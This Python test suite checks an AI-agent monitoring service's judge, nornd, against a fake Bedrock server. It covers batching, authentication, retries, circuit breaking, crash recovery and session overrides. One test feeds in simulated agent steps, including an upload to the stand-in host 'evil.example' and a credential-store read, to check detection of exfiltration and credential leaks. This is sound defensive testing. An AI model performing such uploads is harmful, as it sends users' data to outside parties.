"""The AI judge end to end: nornd's real evaluator (libcurl) against a local
server that speaks Bedrock's Converse protocol and checks every request's
authentication independently (fake_bedrock.py: botocore's SigV4 signer, or the
bearer header).

Covered: batching (N steps -> at most ceil(N / batch) step calls), SigV4 and
bearer, the step cache, retries on 429/5xx honouring Retry-After, the circuit
breaker, scores arriving over WatchSessions, the §4.4 effects of the model's
answers (IRRELEVANT + TASK_DRIFT, typed security issues, MISSING_CONFIG,
clamping, unusable answers), the deterministic overrides beating an
optimistic model on fixtures F1 and F4, the no-credential path, and ingest
that does not wait while the model hangs.

Run: cd tests/python && NORND=... NORN_PROTO_DIR=... NORN_PY_GEN=... \
     /usr/bin/python3 -m unittest -v test_evaluator
"""

import json
import math
import os
import subprocess
import threading
import time
import unittest

import nornd_proc
from nornd_proc import start_nornd
from fake_bedrock import FakeBedrock

nornd_proc.ensure_stubs()

import grpc  # noqa: E402
from google.protobuf import field_mask_pb2, struct_pb2  # noqa: E402
from norn.v1 import common_pb2 as C  # noqa: E402
from norn.v1 import audit_service_pb2 as AU  # noqa: E402
from norn.v1 import audit_service_pb2_grpc as AU_grpc  # noqa: E402
from norn.v1 import config_service_pb2 as CF  # noqa: E402
from norn.v1 import config_service_pb2_grpc as CF_grpc  # noqa: E402
from norn.v1 import session_service_pb2 as S  # noqa: E402
from norn.v1 import session_service_pb2_grpc as S_grpc  # noqa: E402
from norn.v1 import stats_service_pb2 as ST  # noqa: E402
from norn.v1 import stats_service_pb2_grpc as ST_grpc  # noqa: E402
from norn.v1 import swarm_service_pb2 as W  # noqa: E402
from norn.v1 import swarm_service_pb2_grpc as W_grpc  # noqa: E402

T = 10.0
HERE = os.path.dirname(os.path.abspath(__file__))
_ids = iter(range(1, 1 << 40))


def uid(prefix):
    return "%s-%d-%d" % (prefix, os.getpid(), next(_ids))


def struct(d):
    s = struct_pb2.Struct()
    s.update(d)
    return s


def step(tool, inp, result, status=C.RESULT_STATUS_SUCCESS):
    return C.Step(tool_name=tool, tool_input=struct(inp), result_text=result,
                  result_status=status)


class Server:
    """nornd + fake Bedrock + stubs, for one test."""

    def __init__(self, tc, fake=None, env=None, args=(), batch=8, wait_ms=50):
        self.fake = fake
        e = dict(env or {})
        if fake is not None:
            e["NORN_BEDROCK_ENDPOINT"] = fake.url
            if fake.auth_mode == "bearer":
                e["AWS_BEARER_TOKEN_BEDROCK"] = fake.bearer
            else:
                e["AWS_ACCESS_KEY_ID"] = fake.access_key
                e["AWS_SECRET_ACCESS_KEY"] = fake.secret_key
                if fake.session_token:
                    e["AWS_SESSION_TOKEN"] = fake.session_token
            e["AWS_REGION"] = fake.region
        self.n = start_nornd(tc, args=list(args), env=e)
        ch = self.n.channel()
        self.s = S_grpc.SessionServiceStub(ch)
        self.cfg = CF_grpc.ConfigServiceStub(ch)
        self.stats = ST_grpc.StatsServiceStub(ch)
        self.set_config(bedrock_batch_size=batch, bedrock_batch_wait_ms=wait_ms)

    def set_config(self, **fields):
        self.cfg.UpdateConfig(CF.UpdateConfigRequest(
            config=CF.Config(**fields), update_mask=field_mask_pb2.FieldMask(paths=list(fields))),
            timeout=T)

    def open(self, task="Find the population of Paris and write it to paris.txt", sid=None):
        sid = sid or uid("ev")
        self.s.OpenSession(S.OpenSessionRequest(
            session_id=sid, agent_name="eval-agent",
            task=C.TaskDefinition(description=task) if task else None), timeout=T)
        return sid

    def record(self, sid, steps):
        return self.s.RecordSteps(S.RecordStepsRequest(session_id=sid, steps=steps), timeout=T)

    def complete(self, sid):
        return self.s.CompleteSession(S.CompleteSessionRequest(session_id=sid), timeout=T).session

    def get(self, sid):
        return self.s.GetSession(S.GetSessionRequest(session_id=sid, include_steps=True,
                                                     include_issues=True), timeout=T).session

    def wait_session(self, sid, pred, timeout=20.0, what="condition"):
        deadline = time.monotonic() + timeout
        while True:
            s = self.get(sid)
            if pred(s):
                return s
            if time.monotonic() > deadline:
                raise AssertionError("timed out waiting for %s; session: %s\nlog:\n%s"
                                     % (what, s, self.n.log_text()[-3000:]))
            time.sleep(0.05)

    def wait_judged(self, sid, n, timeout=20.0):
        return self.wait_session(
            sid, lambda s: len(s.steps) == n and all(st.reasoning for st in s.steps),
            timeout, "%d judged steps" % n)

    def get_stats(self):
        return self.stats.GetStats(ST.GetStatsRequest(), timeout=T).stats

    def tool_calls(self, sid):
        """The session's tool_call audit rows, oldest first."""
        au = AU_grpc.AuditServiceStub(self.n.channel())
        evs = au.ListAuditEvents(AU.ListAuditEventsRequest(
            session_id=sid, event_type=C.AUDIT_EVENT_TYPE_TOOL_CALL), timeout=T).events
        return list(reversed(evs))


def sampled(session_id, step_number, percent):
    """server/session_service.c's SAMPLED choice: FNV-1a over the session id,
    then the step number."""
    h = 1469598103934665603
    for b in session_id.encode():
        h = ((h ^ b) * 1099511628211) & 0xFFFFFFFFFFFFFFFF
    h = ((h ^ step_number) * 1099511628211) & 0xFFFFFFFFFFFFFFFF
    return (h >> 11) % 100 < percent


def search_steps(n, prefix="q"):
    return [step("web_search", {"query": "%s %d" % (prefix, i)}, "result %d" % i)
            for i in range(n)]


class EvaluatorTest(unittest.TestCase):
    def fake(self, **kw):
        if not kw:
            kw = {"bearer": "test-token-%d" % os.getpid()}
        fb = FakeBedrock(**kw).start()
        self.addCleanup(fb.stop)
        return fb

    # ---- batching, auth, cache ------------------------------------------------

    def test_batching_100_steps_bearer(self):
        fb = self.fake()
        # A long wait: a batch goes out only when full, however slowly the
        # steps arrive on a loaded machine.
        srv = Server(self, fb, batch=10, wait_ms=30000)
        sid = srv.open()
        for chunk in range(10):
            srv.record(sid, search_steps(10, "batch%d" % chunk))
        s = srv.wait_judged(sid, 100)
        calls = fb.requests(kind="step")
        self.assertLessEqual(len(calls), math.ceil(100 / 10))
        self.assertGreaterEqual(len(calls), 1)
        self.assertTrue(all(r["auth_ok"] and r["auth_mode"] == "bearer" for r in calls))
        self.assertTrue(all(r["model_id"] == "us.amazon.nova-2-lite-v1:0" for r in calls))
        for st in s.steps:
            self.assertEqual(st.relevance_score, 90)
            self.assertEqual(st.security_score, 100)
            self.assertEqual(st.reasoning, "Directly serves the task.")
        stats = srv.get_stats()
        self.assertEqual(stats.eval_steps_judged, 100)
        self.assertEqual(stats.eval_batches, len(calls))
        self.assertGreater(stats.eval_input_tokens, 0)
        self.assertGreater(stats.eval_output_tokens, 0)
        self.assertGreater(stats.eval_estimated_cost_usd, 0)
        self.assertEqual(stats.eval_disabled_reason, "")
        # Stateless prompts: each carries the task and only its own steps.
        for r in calls:
            user = r["body"]["messages"][0]["content"][0]["text"]
            self.assertIn("Find the population of Paris", user)
            self.assertLessEqual(user.count("=== Step "), 10)

    def test_sigv4_with_session_token_verified_by_botocore(self):
        fb = self.fake(access_key="AKIDEXAMPLE", secret_key="wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY",
                       session_token="IQoJb3JpZ2luX2VjEXAMPLETOKEN", region="eu-west-1")
        srv = Server(self, fb)
        sid = srv.open()
        srv.record(sid, search_steps(3))
        srv.wait_judged(sid, 3)
        calls = fb.requests(kind="step")
        self.assertTrue(calls)
        for r in calls:
            self.assertEqual(r["auth_mode"], "sigv4")
            self.assertTrue(r["auth_ok"], r.get("auth_error"))
            self.assertIn("/eu-west-1/bedrock/aws4_request", r["headers"]["authorization"])

    def test_sigv4_wrong_secret_is_an_evaluation_error(self):
        fb = self.fake(access_key="AKIDEXAMPLE", secret_key="right-secret")
        env = {"NORN_BEDROCK_ENDPOINT": fb.url, "AWS_ACCESS_KEY_ID": "AKIDEXAMPLE",
               "AWS_SECRET_ACCESS_KEY": "wrong-secret", "AWS_REGION": "us-east-1"}
        srv = Server(self, None, env=env, args=["--eval-attempts", "1"])
        sid = srv.open()
        srv.record(sid, search_steps(1))
        s = srv.wait_judged(sid, 1)
        self.assertFalse(s.steps[0].HasField("relevance_score"))
        self.assertIn("Evaluation failed: Bedrock answered HTTP 403", s.steps[0].reasoning)
        self.assertFalse(fb.requests()[0]["auth_ok"])
        self.assertGreaterEqual(srv.get_stats().eval_errors, 1)

    def test_cache_answers_repeated_steps(self):
        fb = self.fake()
        srv = Server(self, fb)
        steps = search_steps(4, "same")
        a = srv.open()
        srv.record(a, steps)
        srv.wait_judged(a, 4)
        calls_before = len(fb.requests(kind="step"))
        b = srv.open()  # same task, same steps
        srv.record(b, steps)
        s = srv.wait_judged(b, 4)
        self.assertEqual(len(fb.requests(kind="step")), calls_before)
        self.assertTrue(all(st.relevance_score == 90 for st in s.steps))
        self.assertEqual(srv.get_stats().eval_cache_hits, 4)
        # A different task is a different question: not a cache hit.
        c = srv.open(task="Summarise the weather in Oslo")
        srv.record(c, steps)
        srv.wait_judged(c, 4)
        self.assertGreater(len(fb.requests(kind="step")), calls_before)

    # ---- resilience -------------------------------------------------------------

    def test_retries_on_throttling_and_5xx_honour_retry_after(self):
        fb = self.fake()
        srv = Server(self, fb, args=["--eval-backoff-ms", "50"])
        fb.fail_next(1, status=429, retry_after=1)
        fb.fail_next(1, status=500)
        sid = srv.open()
        srv.record(sid, search_steps(2))
        s = srv.wait_judged(sid, 2)
        self.assertTrue(all(st.relevance_score == 90 for st in s.steps))
        reqs = fb.requests(kind="step")
        self.assertEqual([r["status"] for r in reqs], [429, 500, 200])
        # Retry-After: 1 was honoured before the second attempt.
        self.assertGreaterEqual(reqs[1]["received_at"] - reqs[0]["received_at"], 0.9)
        stats = srv.get_stats()
        self.assertEqual(stats.eval_retries, 2)
        self.assertEqual(stats.eval_errors, 0)

    def test_circuit_breaker_pauses_and_recovers(self):
        fb = self.fake()
        srv = Server(self, fb, batch=1, wait_ms=0, args=[
            "--eval-attempts", "1", "--eval-breaker-failures", "2",
            "--eval-breaker-cooldown-ms", "3000", "--eval-in-flight", "1"])
        fb.fail_next(2, status=503)
        sid = srv.open()
        srv.record(sid, search_steps(2, "fail"))
        srv.wait_judged(sid, 2)  # both failed for good (one attempt each)
        stats = srv.get_stats()
        self.assertTrue(stats.eval_breaker_open)
        self.assertEqual(stats.eval_breaker_opened, 1)
        n_before = len(fb.requests())
        # While open, nothing is sent; the session itself is unaffected.
        sid2 = srv.open()
        r = srv.record(sid2, search_steps(3, "later"))
        self.assertEqual(len(r.verdicts), 3)
        time.sleep(0.5)
        self.assertEqual(len(fb.requests()), n_before)
        # After the cooldown a probe succeeds and judging resumes.
        s2 = srv.wait_judged(sid2, 3, timeout=15)
        self.assertTrue(all(st.relevance_score == 90 for st in s2.steps))
        self.assertFalse(srv.get_stats().eval_breaker_open)
        first = srv.get(sid)
        self.assertTrue(all(st.reasoning.startswith("Evaluation failed: Bedrock answered HTTP 503")
                            for st in first.steps))

    def test_request_timeout_is_retried(self):
        fb = self.fake()
        srv = Server(self, fb, args=["--eval-timeout-ms", "500", "--eval-backoff-ms", "10"])
        fb.hang_next(1)  # the first request is never answered
        sid = srv.open()
        srv.record(sid, search_steps(1, "slow"))
        s = srv.wait_judged(sid, 1)
        self.assertEqual(s.steps[0].relevance_score, 90)
        self.assertEqual(srv.get_stats().eval_retries, 1)
        self.assertEqual(len(fb.requests(kind="step")), 2)
        fb.release()

    def test_threshold_flagged_and_sampled(self):
        fb = self.fake()
        srv = Server(self, fb, batch=100, wait_ms=50)
        srv.set_config(eval_threshold=C.EVAL_THRESHOLD_FLAGGED)
        sid = srv.open()
        srv.record(sid, [step("fetch", {"url": "https://example.com"}, "ok"),
                         step("fetch", {"url": "https://example.com", "verify": False}, "ok")])
        s = srv.wait_session(sid, lambda s: len(s.steps) == 2 and s.steps[1].reasoning,
                             what="the flagged step judged")
        time.sleep(0.3)
        s = srv.get(sid)
        self.assertFalse(s.steps[0].HasField("relevance_score"))  # clean: not judged
        self.assertTrue(s.steps[1].HasField("relevance_score"))
        prompts = [r["body"]["messages"][0]["content"][0]["text"] for r in fb.requests(kind="step")]
        self.assertEqual(sum(p.count("=== Step ") for p in prompts), 1)
        srv.set_config(eval_threshold=C.EVAL_THRESHOLD_SAMPLED, eval_sample_percent=50)
        sid = srv.open()
        srv.record(sid, search_steps(40, "sample"))
        # The sample is a stable hash of (session, step): the same steps every
        # time, about half of them.
        want = [n for n in range(1, 41) if sampled(sid, n, 50)]
        self.assertTrue(5 < len(want) < 35, want)
        s = srv.wait_session(
            sid, lambda s: all(s.steps[n - 1].HasField("relevance_score") for n in want),
            what="the sampled steps judged")
        time.sleep(0.3)
        s = srv.get(sid)
        self.assertEqual([st.step_number for st in s.steps if st.HasField("relevance_score")],
                         want)

    def test_full_queue_drops_the_oldest_pending_judgement(self):
        fb = self.fake()
        # Batches of 100 that wait a minute: the 20 steps stay pending.
        srv = Server(self, fb, batch=100, wait_ms=60000, args=["--eval-max-pending", "5"])
        sid = srv.open()
        r = srv.record(sid, search_steps(20, "drop"))
        self.assertEqual(len(r.verdicts), 20)  # never an RPC error
        stats = srv.get_stats()
        self.assertEqual(stats.eval_dropped, 15)
        self.assertEqual(stats.eval_queue_depth, 5)
        self.assertEqual(fb.requests(), [])
        self.assertIn("eval_dropped", srv.n.log_text())
        # The dropped steps are closed as not judged, each with its audit row.
        s = srv.wait_session(sid, lambda s: sum(bool(st.reasoning) for st in s.steps) == 15,
                             what="15 steps closed")
        self.assertEqual([st.step_number for st in s.steps if st.reasoning],
                         list(range(1, 16)))
        self.assertTrue(all(st.reasoning == "Evaluation skipped: the judge's queue was full"
                            for st in s.steps[:15]))
        self.assertEqual(len(srv.tool_calls(sid)), 15)

    def test_breaker_probe_is_a_real_request(self):
        # After the cooldown the first work can be answered without a call (a
        # cache hit, a zero-step session): that must not use up the probe, or
        # judging would stop for good.
        fb = self.fake()
        srv = Server(self, fb, batch=1, wait_ms=0, args=[
            "--eval-attempts", "1", "--eval-breaker-failures", "2",
            "--eval-breaker-cooldown-ms", "1000", "--eval-in-flight", "1"])
        cached = search_steps(1, "cached")
        a = srv.open()
        srv.record(a, cached)
        srv.wait_judged(a, 1)
        fb.fail_next(2, status=503)
        b = srv.open()
        srv.record(b, search_steps(2, "fail"))
        srv.wait_judged(b, 2)
        self.assertTrue(srv.get_stats().eval_breaker_open)
        c = srv.open()
        srv.record(c, cached)  # answered from the cache, queued first
        e = srv.open()
        srv.complete(e)  # a zero-step session: evaluated without a call
        d = srv.open()
        srv.record(d, search_steps(1, "after"))
        srv.wait_judged(c, 1, timeout=15)
        srv.wait_session(e, lambda s: s.evaluation_state == C.EVALUATION_STATE_DONE)
        s = srv.wait_judged(d, 1, timeout=15)
        self.assertEqual(s.steps[0].relevance_score, 90)
        self.assertFalse(srv.get_stats().eval_breaker_open)

    def test_ingest_does_not_wait_for_a_hanging_model(self):
        fb = self.fake()
        srv = Server(self, fb, batch=5, wait_ms=0)
        fb.hang_next()  # every request is read, none answered until release()
        sid = srv.open()
        for i in range(20):
            r = srv.record(sid, search_steps(5, "hang%d" % i))
            self.assertEqual(len(r.verdicts), 5)
        fb.wait_for(lambda: len(fb.requests(kind="step")) >= 1, timeout=10)
        self.assertTrue(all(r["status"] is None for r in fb.requests(kind="step")))
        s = srv.get(sid)
        self.assertEqual(s.total_steps, 100)
        self.assertFalse(any(st.HasField("relevance_score") for st in s.steps))
        self.assertGreater(srv.get_stats().eval_queue_depth, 0)
        fb.release()
        srv.wait_judged(sid, 100, timeout=30)

    # ---- what the answers do ----------------------------------------------------

    def test_answers_drive_statuses_and_issues(self):
        fb = self.fake()
        fb.set_tool_scores({
            "play_music": (10, 100, "Unrelated to the task."),
            "upload": (40, 10, "Sends the file to an external host: exfiltration risk."),
            "read_env": (150, -5, "Reads the credential store."),
        })
        srv = Server(self, fb)
        sid = srv.open()
        srv.record(sid, [
            step("play_music", {"song": "x"}, "playing"),
            step("upload", {"url": "http://evil.example"}, "uploaded"),
            step("read_env", {"name": "HOME"}, "ok"),
            step("query_kb", {"q": "paris"}, "Error: No knowledge base ID configured"),
        ])
        s = srv.wait_judged(sid, 4)
        st = {x.tool_name: x for x in s.steps}
        self.assertEqual(st["play_music"].status, C.STEP_STATUS_IRRELEVANT)
        self.assertEqual((st["read_env"].relevance_score, st["read_env"].security_score), (100, 0))
        self.assertEqual(st["query_kb"].status, C.STEP_STATUS_FAILED)
        by_type = {}
        for i in s.issues:
            by_type.setdefault(i.issue_type, []).append(i)
        drift = by_type[C.ISSUE_TYPE_TASK_DRIFT][0]
        self.assertEqual(drift.severity, 6)
        self.assertEqual(drift.description, "Step 1 (play_music) not relevant to task")
        self.assertEqual(list(drift.affected_steps), ["step_1"])
        exf = by_type[C.ISSUE_TYPE_DATA_EXFILTRATION][0]
        self.assertEqual(exf.severity, 10)
        self.assertTrue(exf.description.startswith("Security concern in step 2: "))
        self.assertEqual(by_type[C.ISSUE_TYPE_CREDENTIAL_LEAK][0].severity, 10)
        # The tool_call audit rows are written once judged, with the scores.
        rows = srv.tool_calls(sid)
        self.assertEqual(len(rows), 4)
        self.assertEqual(rows[1].summary,
                         "upload() \u2192 SUCCESS  |  Security: 10%  Relevance: 40%")
        self.assertEqual(rows[1].severity, C.AUDIT_SEVERITY_CRITICAL)
        self.assertEqual(rows[0].severity, C.AUDIT_SEVERITY_WARNING)  # IRRELEVANT
        mc = by_type[C.ISSUE_TYPE_MISSING_CONFIG][0]
        self.assertEqual(mc.severity, 7)
        self.assertIn("STRANDS_KNOWLEDGE_BASE_ID", mc.description)
        self.assertTrue(s.security_breach_detected)

    def test_unusable_answer_is_a_clear_evaluation_error(self):
        fb = self.fake()
        fb.set_raw_reply("step", "I cannot help with that.")
        srv = Server(self, fb)
        sid = srv.open()
        srv.record(sid, [step("probe", {"x": 1}, "Error: API key not found")])
        s = srv.wait_judged(sid, 1)
        self.assertFalse(s.steps[0].HasField("relevance_score"))
        self.assertTrue(s.steps[0].reasoning.startswith(
            "Evaluation failed: No valid JSON found in response: I cannot help"),
            s.steps[0].reasoning)
        # The MISSING_CONFIG scan runs even when the model failed (§4.4).
        self.assertEqual(s.steps[0].status, C.STEP_STATUS_FAILED)
        self.assertIn(C.ISSUE_TYPE_MISSING_CONFIG, [i.issue_type for i in s.issues])

    # ---- session evaluation and the overrides -----------------------------------

    def run_fixture(self, srv, name):
        """Replays a fixture's tool calls (monitor mode) with its first user
        message as the task, as the original's hook did."""
        with open(os.path.join(HERE, "fixtures.json")) as f:
            fx = json.load(f)[name]["sessions"][0]
        sid = srv.open(task=fx["first_user_message"])
        srv.record(sid, [step(x["tool_name"], x.get("tool_input", {}), x.get("result_text", ""),
                              C.RESULT_STATUS_ERROR if x.get("result_status") == "error"
                              else C.RESULT_STATUS_SUCCESS) for x in fx["tool_calls"]])
        srv.complete(sid)
        return srv.wait_session(sid, lambda s: s.evaluation_state == C.EVALUATION_STATE_DONE,
                                what="EVALUATED")

    def test_overrides_beat_an_optimistic_model_f1_f4(self):
        fb = self.fake()
        fb.set_session_result({
            "task_completed": True, "completion_confidence": 95, "efficiency_score": 95,
            "security_score": 100, "overall_quality": "EXCELLENT",
            "reasoning": "Flawless.", "tool_analysis": [], "decision_observations": [],
            "efficiency_explanation": "Few steps.", "recommendations": []})
        srv = Server(self, fb)
        f1 = self.run_fixture(srv, "F1")
        self.assertEqual(f1.overall_quality, C.QUALITY_STUCK)
        self.assertEqual(f1.efficiency_score, 95)
        self.assertTrue(f1.loop_detected)
        self.assertEqual(f1.ai_evaluation, "Flawless.")
        self.assertTrue(f1.task_completion)
        f4 = self.run_fixture(srv, "F4")
        self.assertEqual(f4.overall_quality, C.QUALITY_FAILED)
        self.assertLessEqual(f4.security_score, 20)
        self.assertTrue(f4.security_breach_detected)
        self.assertEqual(len(fb.requests(kind="session")), 2)

    def test_scores_and_evaluation_arrive_over_watch(self):
        fb = self.fake()
        srv = Server(self, fb)
        sid = uid("watched")
        got = []
        done = threading.Event()
        call = srv.s.WatchSessions(S.WatchSessionsRequest(
            session_ids=[sid], include_steps=True), timeout=30)

        def reader():
            try:
                for m in call:
                    if m.HasField("delta"):
                        got.append(m.delta)
                        if m.delta.kind == C.DELTA_KIND_EVALUATED:
                            done.set()
                            return
            except grpc.RpcError:
                pass

        t = threading.Thread(target=reader, daemon=True)
        t.start()
        time.sleep(0.3)
        srv.open(sid=sid)
        srv.record(sid, search_steps(3, "w"))
        srv.complete(sid)
        self.assertTrue(done.wait(20), "no EVALUATED delta; got %s" % [d.kind for d in got])
        call.cancel()
        kinds = [d.kind for d in got]
        revs = [d.revision for d in got]
        self.assertEqual(revs, sorted(revs))
        scored = [d for d in got if d.kind == C.DELTA_KIND_STEP_UPDATED
                  and any(st.HasField("relevance_score") for st in d.steps)]
        self.assertTrue(scored, kinds)
        self.assertLess(kinds.index(C.DELTA_KIND_COMPLETED), kinds.index(C.DELTA_KIND_EVALUATED))
        ev = got[-1].session
        self.assertEqual(ev.evaluation_state, C.EVALUATION_STATE_DONE)
        self.assertEqual(ev.overall_quality, C.QUALITY_EXCELLENT)

    def test_queued_evaluation_survives_a_crash(self):
        fb = self.fake()
        srv = Server(self, fb)
        sid = srv.open()
        srv.record(sid, search_steps(2, "crash"))
        srv.wait_judged(sid, 2)
        fb.hang_next()  # the session evaluation is sent but never answered
        self.assertEqual(srv.complete(sid).evaluation_state, C.EVALUATION_STATE_QUEUED)
        fb.wait_for(lambda: len(fb.requests(kind="session")) == 1, timeout=10)
        srv.n.kill()  # SIGKILL: the in-memory queue is gone
        fb.release()
        srv.n.start()
        ch = srv.n.channel()
        srv.s = S_grpc.SessionServiceStub(ch)
        s = srv.wait_session(sid, lambda s: s.evaluation_state == C.EVALUATION_STATE_DONE,
                             what="the evaluation redone after the restart")
        self.assertEqual(s.overall_quality, C.QUALITY_EXCELLENT)
        self.assertEqual(len(fb.requests(kind="session")), 2)
        self.assertIn("eval_requeued", srv.n.log_text())

    def test_pending_step_judgements_survive_a_crash(self):
        fb = self.fake()
        srv = Server(self, fb, batch=3, wait_ms=0)
        fb.hang_next()
        sid = srv.open()
        srv.record(sid, search_steps(3, "lost"))
        fb.wait_for(lambda: len(fb.requests(kind="step")) == 1, timeout=10)
        self.assertEqual(srv.tool_calls(sid), [])  # written once judged
        srv.n.kill()
        fb.release()
        srv.n.start()
        srv.s = S_grpc.SessionServiceStub(srv.n.channel())
        s = srv.wait_judged(sid, 3)
        self.assertTrue(all(st.relevance_score == 90 for st in s.steps))
        self.assertEqual(len(srv.tool_calls(sid)), 3)

    def test_pending_steps_closed_when_restarted_without_credentials(self):
        fb = self.fake()
        srv = Server(self, fb, batch=3, wait_ms=0)
        fb.hang_next()
        sid = srv.open()
        srv.record(sid, search_steps(2, "nocred"))
        fb.wait_for(lambda: len(fb.requests(kind="step")) == 1, timeout=10)
        srv.n.kill()
        fb.release()
        srv.n.extra_env = {}  # no credentials, no endpoint
        srv.n.start()
        srv.s = S_grpc.SessionServiceStub(srv.n.channel())
        s = srv.get(sid)
        self.assertTrue(all(st.reasoning.startswith("Evaluation skipped: no AWS credentials")
                            for st in s.steps), [st.reasoning for st in s.steps])
        self.assertEqual(len(srv.tool_calls(sid)), 2)

    def test_zero_step_session_uses_the_shortcut(self):
        fb = self.fake()
        srv = Server(self, fb)
        sid = srv.open()
        srv.complete(sid)
        s = srv.wait_session(sid, lambda s: s.evaluation_state == C.EVALUATION_STATE_DONE)
        self.assertEqual(s.overall_quality, C.QUALITY_GOOD)
        self.assertEqual(s.completion_confidence, 80)
        self.assertEqual(fb.requests(), [])

    def test_failed_session_evaluation_is_the_originals_failure_result(self):
        fb = self.fake()
        srv = Server(self, fb, args=["--eval-attempts", "1", "--eval-breaker-failures", "100"])
        sid = srv.open()
        srv.record(sid, search_steps(2, "ok"))
        srv.wait_judged(sid, 2)
        fb.fail_next(1, status=400, message="Malformed input request")
        srv.complete(sid)
        s = srv.wait_session(sid, lambda s: s.evaluation_state == C.EVALUATION_STATE_FAILED)
        self.assertEqual(s.overall_quality, C.QUALITY_POOR)
        self.assertEqual(s.completion_confidence, 0)
        self.assertTrue(s.ai_evaluation.startswith("Evaluation error: Bedrock answered HTTP 400"))
        self.assertTrue(s.ai_evaluation.endswith(" - scores unavailable"))
        self.assertEqual(list(s.recommendations), ["Review agent logs",
                                                   "Check AI model connectivity"])

    # ---- swarm analysis -----------------------------------------------------------

    def run_swarm(self, srv, swarm_id):
        for order, (name, tool) in enumerate([("Researcher", "web_search"),
                                              ("Writer", "write_file")], start=1):
            sid = uid("sw")
            srv.s.OpenSession(S.OpenSessionRequest(
                session_id=sid, agent_name=name, swarm_id=swarm_id, swarm_order=order,
                handoff_input="notes from agent %d" % (order - 1) if order > 1 else "",
                task=C.TaskDefinition(description="Step %d of the report" % order)), timeout=T)
            srv.record(sid, [step(tool, {"x": order}, "done")])
            srv.complete(sid)
            srv.wait_session(sid, lambda s: s.evaluation_state == C.EVALUATION_STATE_DONE)

    def test_analyze_swarm_through_the_model_then_cached(self):
        fb = self.fake()
        srv = Server(self, fb)
        sw = W_grpc.SwarmServiceStub(srv.n.channel())
        self.run_swarm(srv, "swarm-a")
        a = sw.AnalyzeSwarm(W.AnalyzeSwarmRequest(swarm_id="swarm-a"), timeout=T).analysis
        self.assertFalse(a.cached)
        self.assertEqual(a.swarm_id, "swarm-a")
        self.assertEqual(a.agent_count, 2)
        self.assertEqual([x.agent_name for x in a.agent_assessments], ["Researcher", "Writer"])
        prompt = fb.requests(kind="swarm")[0]["body"]["messages"][0]["content"][0]["text"]
        self.assertIn("[Agent 1: Researcher]", prompt)
        self.assertIn("Tools used: write_file", prompt)
        self.assertIn("Received from previous agent: notes from agent 1", prompt)
        b = sw.AnalyzeSwarm(W.AnalyzeSwarmRequest(swarm_id="swarm-a"), timeout=T).analysis
        self.assertTrue(b.cached)
        self.assertEqual(b.summary, a.summary)
        self.assertEqual(len(fb.requests(kind="swarm")), 1)
        g = sw.GetSwarm(W.GetSwarmRequest(swarm_id="swarm-a"), timeout=T)
        self.assertTrue(g.HasField("analysis"))
        cli = subprocess.run([os.environ["NORN_CLI"], "--server", srv.n.target, "swarms",
                              "analyze", "swarm-a"], capture_output=True, text=True, timeout=60)
        self.assertEqual(cli.returncode, 0, cli.stderr)
        self.assertIn("from the cache", cli.stdout)
        self.assertIn("1. Researcher: ", cli.stdout)
        sw.AnalyzeSwarm(W.AnalyzeSwarmRequest(swarm_id="swarm-a", refresh=True), timeout=T)
        self.assertEqual(len(fb.requests(kind="swarm")), 2)
        # A model failure is the original's "Analysis failed", not a hang.
        fb.set_raw_reply("swarm", "no json here")
        with self.assertRaises(grpc.RpcError) as cm:
            sw.AnalyzeSwarm(W.AnalyzeSwarmRequest(swarm_id="swarm-a", refresh=True), timeout=T)
        self.assertEqual(cm.exception.code(), grpc.StatusCode.INTERNAL)
        self.assertIn("Analysis failed:", cm.exception.details())
        with self.assertRaises(grpc.RpcError) as cm:
            sw.AnalyzeSwarm(W.AnalyzeSwarmRequest(swarm_id="no-such-swarm"), timeout=T)
        self.assertEqual(cm.exception.code(), grpc.StatusCode.NOT_FOUND)

    def test_shutdown_ends_an_analysis_waiting_for_the_model(self):
        fb = self.fake()
        srv = Server(self, fb, args=["--drain-grace-ms", "500"])
        sw = W_grpc.SwarmServiceStub(srv.n.channel())
        self.run_swarm(srv, "swarm-c")
        fb.hang_next()  # the model never answers
        fut = sw.AnalyzeSwarm.future(W.AnalyzeSwarmRequest(swarm_id="swarm-c"), timeout=30)
        fb.wait_for(lambda: len(fb.requests(kind="swarm")) == 1, timeout=10)
        self.assertEqual(srv.n.terminate(), 0, srv.n.log_text()[-2000:])
        with self.assertRaises(grpc.RpcError) as cm:
            fut.result(timeout=10)
        self.assertIn(cm.exception.code(), (grpc.StatusCode.UNAVAILABLE,
                                            grpc.StatusCode.CANCELLED))
        fb.release()

    def test_analyze_swarm_without_credentials(self):
        srv = Server(self, None)
        sid = uid("sw")
        srv.s.OpenSession(S.OpenSessionRequest(session_id=sid, agent_name="A",
                                               swarm_id="swarm-b", swarm_order=1), timeout=T)
        sw = W_grpc.SwarmServiceStub(srv.n.channel())
        with self.assertRaises(grpc.RpcError) as cm:
            sw.AnalyzeSwarm(W.AnalyzeSwarmRequest(swarm_id="swarm-b"), timeout=T)
        self.assertEqual(cm.exception.code(), grpc.StatusCode.FAILED_PRECONDITION)
        self.assertIn("no AWS credentials", cm.exception.details())

    # ---- no credentials ---------------------------------------------------------

    def test_no_credentials_means_deterministic_verdicts_and_heuristic_quality(self):
        srv = Server(self, None)
        sid = srv.open()
        srv.record(sid, search_steps(3, "nocred"))
        s = srv.complete(sid)
        self.assertEqual(s.evaluation_state, C.EVALUATION_STATE_UNAVAILABLE)
        self.assertIn("no AWS credentials", s.ai_evaluation)
        self.assertEqual(s.overall_quality, C.QUALITY_GOOD)
        self.assertFalse(any(st.HasField("relevance_score") for st in srv.get(sid).steps))
        stats = srv.get_stats()
        self.assertIn("no AWS credentials", stats.eval_disabled_reason)
        self.assertEqual(stats.eval_calls, 0)
        self.assertIn("eval_disabled", srv.n.log_text())
        # Rules still decide: a loop is STUCK without any model.
        loop = srv.open()
        srv.record(loop, [step("web_search", {"query": "same"}, "r") for _ in range(5)])
        self.assertEqual(srv.complete(loop).overall_quality, C.QUALITY_STUCK)
        # AI switched off by config: the original's PENDING.
        srv.set_config(enable_ai_eval=False)
        off = srv.open()
        srv.record(off, search_steps(2, "off"))
        s = srv.complete(off)
        self.assertEqual(s.evaluation_state, C.EVALUATION_STATE_NOT_REQUESTED)
        self.assertEqual(s.overall_quality, C.QUALITY_PENDING)


if __name__ == "__main__":
    unittest.main()
